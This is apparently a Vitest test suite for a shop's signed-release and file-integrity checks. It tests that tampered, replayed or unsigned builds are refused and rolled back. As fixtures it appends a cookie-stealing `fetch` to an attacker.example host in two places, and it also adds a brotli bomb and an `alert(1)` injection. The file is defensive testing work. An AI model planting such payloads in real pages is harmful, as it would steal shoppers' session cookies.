/**
 * Signed releases and their integrity (PCI DSS 6.4.3, 11.6.1): every build's manifest lists each
 * file's SHA-384 and size, signed with the team's key or the shop's; an upload whose signature,
 * files, age or nonce do not hold is refused and nothing moves; a page names every script with
 * its integrity (an import map the policy admits by hash) and serves no version without a valid
 * signature; the integrity watch finds a changed file (or its compressed copy), records it, and
 * puts the part back on its last intact version. On SQLite and PostgreSQL (DATABASE_URL).
 */
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createHash, sign } from 'node:crypto';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import Fastify from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorHandler } from '../src/infra/http/error-handler.ts';
import { scriptHash } from '../src/infra/http/security-headers.ts';
import { createCredential } from '../src/domains/releases/identities.repository.ts';
import { integrityFindings } from '../src/domains/releases/integrity-findings.repository.ts';
import { startIntegrityWatch, type IntegrityPolicy } from '../src/domains/releases/integrity-watch.ts';
import {
  releaseIntegrity,
  deploy,
  rollback,
  readHistory,
  readRegistry,
  hashBuild,
  digestBuild,
  generateSigningKey,
  publicKeyPemOf,
  readSigningKey,
  signManifest,
  verifySignedManifest,
  type SignedManifest,
  localDirectoryStorage,
  packBuild,
} from '@shop/release';
import { createTeamSigningKey, registerShopKey, releaseKeys } from '../src/domains/releases/release-keys.repository.ts';
import { shellHost } from '../src/web/shell-host.ts';
import { buildStaticOrigin } from '../src/web/static-origin.ts';
import { releasedFileCheck } from '../src/web/verified-files.ts';
import { evaluateServerBundle } from '../src/web/ssr/server-bundles.ts';
import { fakeAreaBuild, fakeShellBuild } from './helpers/fake-builds.ts';
import { startTestApi, type TestApi } from './helpers/test-api.ts';

const origin = mkdtempSync(join(tmpdir(), 'release-integrity-'));
const storage = localDirectoryStorage(origin);
const shopKey = readSigningKey(generateSigningKey().privateKeyPem);
const app = Fastify();
app.setErrorHandler(errorHandler);
let api: TestApi;
let base = '';
/** The operator origin: the console's calls and the CI uploads. */
let opsBase = '';
let checkoutTeam = '';
let checkoutKey = readSigningKey(generateSigningKey().privateKeyPem);
let accountKey = readSigningKey(generateSigningKey().privateKeyPem);
const refusedVersions: string[] = [];
const cartRoute = { name: 'checkout-cart', path: '/checkout/cart', module: './CartPage', layout: 'checkout' };

beforeAll(async () => {
  api = await startTestApi({
    operatorConsole: ({ db }) => {
      const keys = releaseKeys(db);
      return {
        storage,
        publicUrl: 'https://shop.example',
        keys,
        integrity: releaseIntegrity({ storage, keys: () => keys.trusted() }),
        findings: integrityFindings(db),
      };
    },
  });
  opsBase = api.opsUrl;
  const keys = releaseKeys(api.db);
  await registerShopKey(keys, shopKey);
  checkoutTeam = await createCredential(api.db, { name: 'ci-checkout', area: 'checkout' });
  checkoutKey = readSigningKey((await createTeamSigningKey(keys, 'ci-checkout', 'checkout')).privateKeyPem);
  accountKey = readSigningKey((await createTeamSigningKey(keys, 'ci-account', 'account')).privateKeyPem);
  const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
  for (const marker of ['one', 'two']) {
    await deploy({
      storage,
      part: 'checkout',
      distDir: fakeAreaBuild('checkout', { marker, routes: [cartRoute] }),
      packageVersion: '1.0.0',
      provenance: { who: 'seed' },
      init: true,
      signingKey: shopKey,
    });
  }
  await deploy({
    storage,
    part: 'shell',
    distDir: fakeShellBuild(),
    packageVersion: '1.0.0',
    provenance: { who: 'seed' },
    signingKey: shopKey,
  });
  await app.register(shellHost, {
    storage,
    assetOrigin: 'https://cdn.example',
    gtmId: null,
    registryPollMs: 60_000,
    telemetrySample: 1,
    publicUrl: 'https://shop.example',
    integrity,
    pageCacheMs: 0,
    serverRender: false,
    onRefusedVersion: (refused) => refusedVersions.push(`${refused.part} ${refused.version}`),
  });
  base = await app.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  await app.close();
  await api?.close();
  rmSync(origin, { recursive: true, force: true });
});

const registryBytes = () => readFileSync(join(origin, 'builds', 'latest.json'), 'utf8');
const liveCheckout = async () => (await readRegistry(storage)).areas.checkout!.version;
const versionDir = (part: string, version: string) => join(origin, part === 'shell' ? 'shells/shell' : `remotes/${part}`, version);

/** A CI upload of a checkout build: its files and the manifest signed as given. */
async function upload(dir: string, manifest: SignedManifest, token = checkoutTeam, area = 'checkout') {
  const { files } = await packBuild(dir);
  return fetch(`${opsBase}/api/ops/releases/${area}/upload`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ packageVersion: '1.0.0', budgetBytes: null, who: 'pipeline', files, mode: 'live', manifest }),
  });
}
const signBuild = async (dir: string, key = checkoutKey, part: 'checkout' | 'account' = 'checkout') =>
  signManifest(key, { part, version: `1.0.0-${await hashBuild(dir)}`, files: await digestBuild(dir) });

describe('a signed manifest', () => {
  it('verifies only unchanged, with a key the shop accepts for that part, naming that part and version', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'unit' });
    const signed = await signBuild(dir);
    const version = `1.0.0-${await hashBuild(dir)}`;
    const checkout = { keyId: checkoutKey.keyId, owner: 'ci-checkout', area: 'checkout', publicKey: publicKeyPemOf(checkoutKey) };
    expect(verifySignedManifest(signed, [checkout], { part: 'checkout', version }).files['assets/page.js']?.size).toBeGreaterThan(0);
    const refusals = [
      () =>
        verifySignedManifest({ ...signed, text: signed.text.replace('"size": ', '"size": 1') }, [checkout], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [{ ...checkout, area: 'account' }], { part: 'checkout', version }),
      () => verifySignedManifest(signed, [checkout], { part: 'checkout', version: '1.0.0-0000000000' }),
      () => verifySignedManifest({ ...signed, signature: 'A'.repeat(86) + '==' }, [checkout], { part: 'checkout', version }),
    ];
    for (const refused of refusals) expect(refused).toThrow(expect.objectContaining({ code: 'bad_signature' }));
  });
});

describe('an upload', () => {
  it('signed by its team with matching files is released, and the signed manifest is kept beside the files', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-good', routes: [cartRoute] });
    const response = await upload(dir, await signBuild(dir));
    expect(response.status).toBe(200);
    const version = await liveCheckout();
    expect(readFileSync(join(versionDir('checkout', version), 'release-manifest.json'), 'utf8')).toContain('"assets/page.js"');
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });

  it('is refused (422, audited) when its signature, its files, its signer, its age or its nonce do not hold; the registry stays byte-identical', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-bad', routes: [cartRoute] });
    const good = await signBuild(dir);
    const changed = fakeAreaBuild('checkout', { marker: 'ci-bad', routes: [cartRoute] });
    appendFileSync(join(changed, 'assets', 'page.js'), '\n;fetch("https://attacker.example/?c="+document.cookie)');
    const stale = signManifest(checkoutKey, { part: 'checkout', version: `1.0.0-${await hashBuild(dir)}`, files: await digestBuild(dir) });
    const staleText = stale.text.replace(/"signedAt": "[^"]+"/, `"signedAt": "${new Date(Date.now() - 25 * 3600_000).toISOString()}"`);
    const before = registryBytes();
    const cases: [string, () => Promise<Response>][] = [
      ['altered manifest', () => upload(dir, { ...good, text: good.text.replace(/"sha384": "[^"]{10}/, '"sha384": "AAAAAAAAAA') })],
      ['files differ from the manifest', () => upload(changed, good)],
      ['another team signed it', async () => upload(dir, await signBuild(dir, accountKey))],
      [
        'signed a day ago',
        () => upload(dir, { text: staleText, signature: sign(null, Buffer.from(staleText), checkoutKey.privateKey).toString('base64') }),
      ],
      ['unsigned', () => upload(dir, { text: good.text, signature: 'x' })],
    ];
    for (const [what, send] of cases) {
      const response = await send();
      expect(response.status, what).toBe(422);
      const body = (await response.json()) as { error: { refusal: string; message: string } };
      expect(body.error.refusal, what).toBe('bad_signature');
      expect(registryBytes(), what).toBe(before);
    }
    const audit = await api.db.selectFrom('release_audit').selectAll().where('allowed', '=', 0).where('action', '=', 'upload').execute();
    expect(audit.length).toBeGreaterThanOrEqual(4);
  });

  it('sent again (a replay of a signed upload) is refused, and nothing moves', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'ci-replay', routes: [cartRoute] });
    const signed = await signBuild(dir);
    expect((await upload(dir, signed)).status).toBe(200);
    const before = registryBytes();
    const replay = await upload(dir, signed);
    expect(replay.status).toBe(422);
    expect(((await replay.json()) as { error: { message: string } }).error.message).toContain('replayed upload');
    // The same signature spelled otherwise: the last character's unused low bits changed (16 spellings, one signature).
    const last = signed.signature.length - 3;
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    const respelled = `${signed.signature.slice(0, last)}${alphabet[alphabet.indexOf(signed.signature[last]!) ^ 0b1111]}==`;
    expect(respelled).not.toBe(signed.signature);
    expect(Buffer.from(respelled, 'base64')).toEqual(Buffer.from(signed.signature, 'base64'));
    const respelledReplay = await upload(dir, { ...signed, signature: respelled });
    expect(respelledReplay.status).toBe(422);
    expect(((await respelledReplay.json()) as { error: { message: string } }).error.message).toContain('replayed upload');
    expect(registryBytes()).toBe(before);
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });
});

describe('a build that brings its own compressed copies', () => {
  it('is refused as an upload (422, in Slovak) and as a release from the command; nothing moves', async () => {
    const dir = fakeAreaBuild('checkout', { marker: 'own-copies', routes: [cartRoute] });
    const signed = await signBuild(dir);
    const { files } = await packBuild(dir);
    const before = registryBytes();
    // A brotli bomb beside the small entry: the release makes its copies itself, so an upload never carries one.
    for (const name of ['remoteEntry.js.br', 'assets/page.js.gz']) {
      const response = await fetch(`${opsBase}/api/ops/releases/checkout/upload`, {
        method: 'POST',
        headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
        body: JSON.stringify({
          packageVersion: '1.0.0',
          budgetBytes: null,
          who: 'pipeline',
          files: { ...files, [name]: brotliCompressSync(Buffer.alloc(1 << 20)).toString('base64') },
          mode: 'live',
          manifest: signed,
        }),
      });
      expect(response.status, name).toBe(422);
      const body = (await response.json()) as { error: { code: string; message: string; refusal: string } };
      expect(body.error.refusal, name).toBe('broken_build');
      expect(body.error.message, name).toContain(`Zostava obsahuje vlastné komprimované kópie súborov (${name})`);
      expect(body.error.message, name).toContain('vytvára pri vydaní obchod sám');
    }
    expect(registryBytes()).toBe(before);
    // The same build from the command: its copies would otherwise reach the origin unsigned.
    writeFileSync(join(dir, 'remoteEntry.js.br'), brotliCompressSync(Buffer.alloc(1 << 20)));
    await expect(packBuild(dir)).rejects.toMatchObject({ code: 'broken_build' });
    await expect(
      deploy({ storage, part: 'checkout', distDir: dir, packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey }),
    ).rejects.toMatchObject({ code: 'broken_build', message: expect.stringContaining('remoteEntry.js.br') });
    expect(registryBytes()).toBe(before);
  });
});

describe('a signed upload sent several times at once', () => {
  it('is released once; every other copy is refused as a replay, on both engines', async () => {
    const dir = fakeAreaBuild('checkout', { marker: `ci-concurrent-${Date.now()}`, routes: [cartRoute] });
    const signed = await signBuild(dir);
    const answers = await Promise.all(Array.from({ length: 6 }, () => upload(dir, signed)));
    const statuses = answers.map((answer) => answer.status).sort();
    expect(statuses).toEqual([200, 422, 422, 422, 422, 422]);
    const accepted = await api.db
      .selectFrom('release_signatures')
      .selectAll()
      .where('version', '=', `1.0.0-${await hashBuild(dir)}`)
      .execute();
    expect(accepted).toHaveLength(1);
    await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
  });
});

/** The import map of a page, and the policy it was served with. */
async function page(path = '/') {
  const response = await fetch(`${base}${path}`);
  const html = await response.text();
  const map = /<script type="importmap">(.*?)<\/script>/.exec(html)?.[1] ?? null;
  const config = JSON.parse(/<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(html)?.[1] ?? 'null') as {
    registry: { areas: Record<string, { version: string }> };
  } | null;
  return { status: response.status, policy: response.headers.get('content-security-policy') ?? '', map, config };
}
const sha384Of = (bytes: Buffer) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;

describe("a page's scripts", () => {
  it('each come with the integrity of its signed bytes, in an import map the policy admits by its hash', async () => {
    const { policy, map } = await page('/checkout/cart');
    expect(map).not.toBeNull();
    expect(policy).toContain(scriptHash(map!));
    const integrity = (JSON.parse(map!) as { integrity: Record<string, string> }).integrity;
    const version = await liveCheckout();
    const entry = `https://cdn.example/remotes/checkout/${version}/remoteEntry.js`;
    expect(Object.keys(integrity)).toEqual(
      expect.arrayContaining([entry, `https://cdn.example/remotes/checkout/${version}/assets/page.js`]),
    );
    for (const [url, expected] of Object.entries(integrity)) {
      const file = join(origin, url.replace('https://cdn.example/', ''));
      expect(sha384Of(readFileSync(file)), url).toBe(expected);
    }
    // Data and the server's own build are not scripts a browser runs.
    expect(Object.keys(integrity).some((url) => /\.json$|\/server\//.test(url))).toBe(false);
  });

  it('of a version whose signed manifest was altered on the origin are not served: the area is left out of the page', async () => {
    const version = await liveCheckout();
    const file = join(versionDir('checkout', version), 'release-manifest.json');
    const original = readFileSync(file, 'utf8');
    writeFileSync(file, original.replace(/"sha384": "[^"]+"/, `"sha384": "${createHash('sha384').update('evil').digest('base64')}"`));
    try {
      // Verified manifests are kept a minute: a fresh integrity reader sees the change at once.
      const fresh = await servePage();
      expect(fresh.status).toBe(200);
      expect(fresh.areas).not.toContain('checkout');
      expect(refusedVersions).toContain(`checkout ${version}`);
    } finally {
      writeFileSync(file, original);
    }
  });

  it('of a shell whose index.html changed on the origin (an inline script added) are not served (503): its policy would admit the script', async () => {
    const shell = (await readRegistry(storage)).shell!.version;
    const file = join(versionDir('shell', shell), 'index.html');
    const original = readFileSync(file, 'utf8');
    expect((await servePage()).status).toBe(200);
    writeFileSync(
      file,
      original.replace('<!--shop-config-->', '<script>fetch("https://attacker.example/?c="+document.cookie)</script><!--shop-config-->'),
    );
    try {
      expect((await servePage()).status).toBe(503);
    } finally {
      writeFileSync(file, original);
    }
  });

  it('of a server build that differs from its signed digest are never run on the server', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'server-bundle-'));
    try {
      const file = join(dir, 'entry.cjs');
      writeFileSync(file, 'exports.ran = true;');
      const signed = createHash('sha384').update('exports.ran = true;').digest('base64');
      expect(await evaluateServerBundle<{ ran: boolean }>(file, signed)).toEqual({ ran: true });
      writeFileSync(file, 'exports.ran = true; globalThis.__tampered = true;');
      await expect(evaluateServerBundle(file, signed)).rejects.toThrow(/differs from its signed release manifest/);
      expect((globalThis as { __tampered?: boolean }).__tampered).toBeUndefined();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('of a shell without a valid signed manifest are not served at all (503)', async () => {
    const shell = (await readRegistry(storage)).shell!.version;
    const file = join(versionDir('shell', shell), 'release-manifest.sig');
    const original = readFileSync(file, 'utf8');
    rmSync(file);
    try {
      expect((await servePage()).status).toBe(503);
    } finally {
      writeFileSync(file, original);
    }
  });
});

/** A page from a second server on the same origin (nothing cached), with the areas it serves. */
async function servePage() {
  const second = Fastify();
  const keys = releaseKeys(api.db);
  const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
  await second.register(shellHost, {
    storage,
    assetOrigin: 'https://cdn.example',
    gtmId: null,
    registryPollMs: 60_000,
    telemetrySample: 1,
    publicUrl: 'https://shop.example',
    integrity,
    pageCacheMs: 0,
    serverRender: false,
    check: releasedFileCheck(integrity, () => undefined),
    onRefusedVersion: (refused) => refusedVersions.push(`${refused.part} ${refused.version}`),
  });
  const response = await second.inject({ url: '/checkout/cart' });
  await second.close();
  const config = JSON.parse(
    /<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(response.body)?.[1] ?? '{"registry":{"areas":{}}}',
  ) as { registry: { areas: Record<string, unknown> } };
  return { status: response.statusCode, areas: Object.keys(config.registry.areas) };
}

describe('the integrity watch', () => {
  const watchWith = (policy: IntegrityPolicy, checkoutPageUrl: string | null = null) => {
    const keys = releaseKeys(api.db);
    return startIntegrityWatch({
      storage,
      integrity: releaseIntegrity({ storage, keys: () => keys.trusted() }),
      findings: integrityFindings(api.db),
      policy,
      log: app.log,
      checkoutPageUrl,
      scheduled: false,
    });
  };
  const findings = () => integrityFindings(api.db).recent(50);

  it('finds one byte changed in a released chunk, records it, and puts the part back on its last intact version (pinned)', async () => {
    const intact = (
      await deploy({
        storage,
        part: 'checkout',
        distDir: fakeAreaBuild('checkout', { marker: 'w-intact', routes: [cartRoute] }),
        packageVersion: '1.0.0',
        provenance: { who: 'ci' },
        signingKey: shopKey,
      })
    ).version;
    const tampered = (
      await deploy({
        storage,
        part: 'checkout',
        distDir: fakeAreaBuild('checkout', { marker: 'w-tampered', routes: [cartRoute] }),
        packageVersion: '1.0.0',
        provenance: { who: 'ci' },
        signingKey: shopKey,
      })
    ).version;
    const chunk = join(versionDir('checkout', tampered), 'assets', 'page.js');
    const bytes = readFileSync(chunk);
    bytes[0] = bytes[0]! ^ 1;
    writeFileSync(chunk, bytes);
    const watch = watchWith({ intervalMs: 60_000, action: 'fallback' });
    await watch.checkNow();
    watch.stop();
    const registry = await readRegistry(storage);
    expect(registry.areas.checkout!.version).toBe(intact);
    expect(registry.pins?.checkout).toMatchObject({ version: intact, by: 'kontrola integrity' });
    expect((await readHistory(storage)).at(-1)).toMatchObject({
      part: 'checkout',
      action: 'rollback',
      from: tampered,
      to: intact,
      who: 'kontrola integrity',
    });
    expect(await findings()).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ part: 'checkout', version: tampered, subject: 'assets/page.js', kind: 'file', action: 'fallback' }),
      ]),
    );
    // Counted in the metrics, from the database (every server reports the same), with the time of the check.
    const metrics = (await api.metrics()).text;
    expect(Number(/shop_release_integrity_findings_total\{part="checkout",kind="file"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(
      1,
    );
    expect(Number(/^shop_release_integrity_last_check_timestamp_seconds (\S+)$/m.exec(metrics)?.[1])).toBeGreaterThan(
      Date.now() / 1000 - 60,
    );
    // A rollback to the tampered version is refused as long as its files differ.
    await expect(
      rollback({
        storage,
        part: 'checkout',
        to: tampered,
        provenance: { who: 'ops' },
        integrity: releaseIntegrity({ storage, keys: () => releaseKeys(api.db).trusted() }),
      }),
    ).rejects.toMatchObject({ code: 'tampered' });
  });

  it('finds a changed compressed copy; with the alert-only policy it records the difference and moves nothing', async () => {
    await fetch(`${opsBase}/api/ops/releases/checkout/unpin`, {
      method: 'POST',
      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
      body: '{}',
    });
    const version = (
      await deploy({
        storage,
        part: 'checkout',
        distDir: fakeAreaBuild('checkout', { marker: 'w-br', routes: [cartRoute], pageBytes: 200 }),
        packageVersion: '1.0.0',
        provenance: { who: 'ci' },
        signingKey: shopKey,
      })
    ).version;
    writeFileSync(join(versionDir('checkout', version), 'assets', 'page.js.br'), brotliCompressSync(Buffer.from('export default "evil";')));
    const before = registryBytes();
    const watch = watchWith({ intervalMs: 60_000, action: 'alert' });
    await watch.checkNow();
    watch.stop();
    expect(registryBytes()).toBe(before);
    expect(await findings()).toEqual(
      expect.arrayContaining([expect.objectContaining({ version, subject: 'assets/page.js.br', action: 'alert' })]),
    );
  });

  it('finds a checkout page answering without its security headers', async () => {
    const bare = createServer((_request, response) => response.end('<!doctype html>'));
    await new Promise<void>((resolve) => bare.listen(0, '127.0.0.1', resolve));
    const port = (bare.address() as { port: number }).port;
    const watch = watchWith({ intervalMs: 60_000, action: 'fallback' }, `http://127.0.0.1:${port}/checkout/cart`);
    await watch.checkNow();
    watch.stop();
    bare.close();
    const headers = (await findings()).filter((row) => row.kind === 'headers');
    expect(headers.map((row) => row.subject)).toEqual(
      expect.arrayContaining(['/checkout/cart: content-security-policy: chýba', '/checkout/cart: x-frame-options: chýba']),
    );
  });

  it('are shown on /ops to a signed-in operator (file, version, what was done), never to an area team', async () => {
    const operator = await api.operator();
    const shown = await fetch(`${opsBase}/api/ops/integrity`, { headers: { cookie: operator.cookie } });
    expect(shown.status).toBe(200);
    const { data } = (await shown.json()) as {
      data: { findings: { part: string; subject: string; action: string; expected: string | null }[] };
    };
    expect(data.findings).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          part: 'checkout',
          subject: 'assets/page.js',
          action: 'fallback',
          expected: expect.stringMatching(/^sha384-/),
        }),
      ]),
    );
    expect((await fetch(`${opsBase}/api/ops/integrity`, { headers: { authorization: `Bearer ${checkoutTeam}` } })).status).toBe(403);
  });
});

describe('the static origin', () => {
  it('sends a released file only with its signed bytes (its brotli copy too); a changed one is refused and reported', async () => {
    const version = (
      await deploy({
        storage,
        part: 'checkout',
        distDir: fakeAreaBuild('checkout', { marker: 'origin', routes: [cartRoute], pageBytes: 200 }),
        packageVersion: '1.0.0',
        provenance: { who: 'ci' },
        signingKey: shopKey,
        overridePin: true,
      })
    ).version;
    const reported: string[] = [];
    const keys = releaseKeys(api.db);
    const assets = await buildStaticOrigin({
      storage,
      logger: app.log,
      check: releasedFileCheck(releaseIntegrity({ storage, keys: () => keys.trusted() }), (part, v, file) =>
        reported.push(`${part} ${v} ${file}`),
      ),
    });
    try {
      const get = (file: string, encoding = 'identity') =>
        assets.inject({ url: `/remotes/checkout/${version}/${file}`, headers: { 'accept-encoding': encoding } });
      expect((await get('assets/page.js')).statusCode).toBe(200);
      expect((await get('assets/page.js', 'br')).headers['content-encoding']).toBe('br');
      const chunk = join(versionDir('checkout', version), 'assets', 'page.js');
      appendFileSync(chunk, ';alert(1)');
      const refused = await get('assets/page.js');
      expect(refused.statusCode).toBe(404);
      expect(refused.json()).toEqual({ error: { code: 'not_found', message: 'Súbor sa nezhoduje s podpísaným vydaním.' } });
      // The intact brotli copy is not sent in its place either: the file is not as released.
      expect((await get('assets/page.js', 'br')).statusCode).toBe(404);
      expect(reported).toContain(`checkout ${version} assets/page.js`);
      expect((await get('remoteEntry.js')).statusCode).toBe(200);
    } finally {
      await assets.close();
    }
  });
});
